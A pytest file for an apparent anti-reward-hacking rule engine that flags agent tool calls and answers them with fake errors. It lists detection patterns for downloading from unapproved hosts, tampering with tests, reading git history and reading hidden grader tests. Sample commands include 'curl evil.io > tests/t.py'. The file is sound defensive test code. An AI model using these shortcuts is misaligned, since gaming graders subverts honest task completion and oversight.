"""Rule packs: loading (with errors that name the rule and key), matching, dummies, config."""

import pytest

from relayrl.antihack import make_rule_stage
from relayrl.antihack.actions import ToolKinds
from relayrl.antihack.rules import Dummy, PathClasses, RulePackError, RuleStage, load_pack, parse_pack
from relayrl.config import AntihackConfig

PACK = {
    "pack": "t",
    "allowed_hosts": ["localhost", "*.mirror.local"],
    "path_classes": {"tests": ["tests/**", "**/test_*.py"]},
    "rules": [
        {"id": "net", "category": "download", "severity": "high", "match": {"op": "net", "host": "not_allowed"},
         "dummy": {"curl": {"exit_code": 6, "stderr": "curl: (6) Could not resolve host: {host}"},
                   "default": {"exit_code": 1, "stderr": "no network"}}},
        {"id": "tests.write", "category": "test_tamper", "match": {"op": "write", "path_class": "tests"},
         "dummy": {"error": "read-only: {path}"}},
        {"id": "git.log_all", "category": "git_history", "severity": "low",
         "match": [{"op": "exec", "program": "git", "sub": "log", "args_any": "^--all$"},
                   {"op": "exec", "program": "git", "sub": "reflog"}],
         "dummy": {"exit_code": 0, "stdout": ""}},
    ],
}


def stage(**kw) -> RuleStage:
    return RuleStage([parse_pack(PACK, "t")], **kw)


def ids(st: RuleStage, name: str, args: dict) -> list[str]:
    return [h.rule.id for h in st.check(name, args)]


def test_matching_by_op_host_path_and_alternatives():
    st = stage()
    assert ids(st, "bash", {"command": "curl -s https://github.com/x"}) == ["net"]
    assert ids(st, "bash", {"command": "curl http://localhost:8000/x && curl pkgs.mirror.local/a"}) == []
    assert ids(st, "bash", {"command": "echo hi > tests/test_a.py"}) == ["tests.write"]
    assert ids(st, "write_file", {"path": "./src/../tests/x.py", "content": ""}) == ["tests.write"]
    assert ids(st, "write_file", {"path": "src/x.py", "content": ""}) == []
    assert ids(st, "bash", {"command": "git log --all"}) == ["git.log_all"]
    assert ids(st, "bash", {"command": "git reflog"}) == ["git.log_all"]
    assert ids(st, "bash", {"command": "git log -5"}) == []


def test_hits_come_most_severe_first():
    st = stage()
    got = ids(st, "bash", {"command": "git log --all; curl evil.io > tests/t.py"})
    assert got == ["net", "tests.write", "git.log_all"]  # high, medium, low


def test_dummy_is_picked_per_program_and_filled():
    st = stage()
    (hit,) = st.check("bash", {"command": "curl https://github.com/o/p"})
    d = hit.rule.dummy_for(hit.op, "bash").fill({"host": hit.op.host})
    assert d == Dummy(exit_code=6, stderr="curl: (6) Could not resolve host: github.com")
    (hit,) = st.check("bash", {"command": "python -c \"import urllib.request as u; u.urlopen('https://x.io/a')\""})
    assert hit.rule.dummy_for(hit.op, "bash").stderr == "no network"
    assert Dummy(error="e").render() == "error: e" and Dummy(exit_code=1, stdout="a\n", stderr="b").render() == "a\nb"


def test_config_adds_protected_paths_hosts_and_tools():
    cfg = AntihackConfig(enabled=True, protected_paths=["/srv/judge/**"], allowed_hosts=["github.com"],
                         shell_tools={"sh": "cmd"}, harmless_tools=["submit"])
    st = make_rule_stage(cfg)
    assert "hidden_tests.protected_path" in ids(st, "sh", {"cmd": "cat /srv/judge/tests/test_x.py"})
    assert ids(st, "sh", {"cmd": "curl -s https://github.com/o/p/raw/x.py"}) == []  # github allowed now
    assert "git_history.refs_and_objects" in ids(st, "some_new_tool", {"anything": "git reflog"})  # unknown tool
    assert ids(st, "submit", {"note": "git reflog"}) == []


def test_path_classes_glob_semantics():
    pc = PathClasses({"t": ["tests/**", "**/test_*.py"], "p": ["/grader/**", "**/*hidden*"]})
    assert pc.contains("t", "tests/a/b.py") and pc.contains("t", "tests") and pc.contains("t", "src/test_x.py")
    assert not pc.contains("t", "src/x_test_helper.py") and not pc.contains("t", "testsuite.py")
    assert pc.contains("p", "/grader") and pc.contains("p", "/tmp/hidden_tests") and pc.contains("p", "../.hidden")
    assert pc.contains("escapes", "../x") and not pc.contains("escapes", "x/..y")
    assert pc.contains("root", "/") and pc.contains("outside", "~/x") and not pc.contains("outside", "src/x")


@pytest.mark.parametrize("mutate,message", [
    (lambda p: p["rules"][0].update(colour="red"), "rules[0] (net): unknown key(s) ['colour']"),
    (lambda p: p["rules"][0]["match"].update(hosts="x"), "unknown key(s) ['hosts']"),
    (lambda p: p["rules"][1]["match"].update(path_class="nope"), "class(es) ['nope'] not defined"),
    (lambda p: p["rules"][2]["match"][0].update(args_any="(["), "bad regex '(['"),
    (lambda p: p["rules"][0].update(severity="urgent"), "severity must be one of"),
    (lambda p: p["rules"][0]["dummy"].pop("default"), "dummy needs a 'default' entry"),
    (lambda p: p["rules"][0].pop("category"), "missing 'category'"),
    (lambda p: p["rules"][1].update(id="net"), "duplicate id 'net'"),
    (lambda p: p["rules"][0]["match"].update(op="teleport"), "op ['teleport'] unknown"),
    (lambda p: p.update(rule=[]), "unknown top-level key(s) ['rule']"),
])
def test_bad_packs_name_the_rule_and_key(mutate, message):
    import copy

    pack = copy.deepcopy(PACK)
    mutate(pack)
    with pytest.raises(RulePackError) as e:
        parse_pack(pack, "mine.yaml")
    assert message in str(e.value) and "mine.yaml" in str(e.value)


def test_pack_files_and_names(tmp_path):
    assert load_pack("default").rules
    with pytest.raises(RulePackError, match="no such built-in pack"):
        load_pack("nonexistent")
    bad = tmp_path / "bad.yaml"
    bad.write_text("rules: [\n")
    with pytest.raises(RulePackError, match="not valid YAML"):
        load_pack(bad)
    # A later pack's rule replaces an earlier one with the same id.
    override = tmp_path / "o.yaml"
    override.write_text("rules:\n  - {id: git_history.refs_and_objects, category: git_history, "
                        "match: {op: exec, program: nothing}, dummy: ''}\n")
    st = RuleStage([load_pack("default"), load_pack(override)], tools=ToolKinds())
    assert "git_history.refs_and_objects" not in ids(st, "bash", {"command": "git reflog"})


def test_default_pack_covers_every_family():
    cats = {r.category for r in load_pack("default").rules}
    assert {"download", "git_history", "hidden_tests", "test_tamper", "harness_exploit"} <= cats
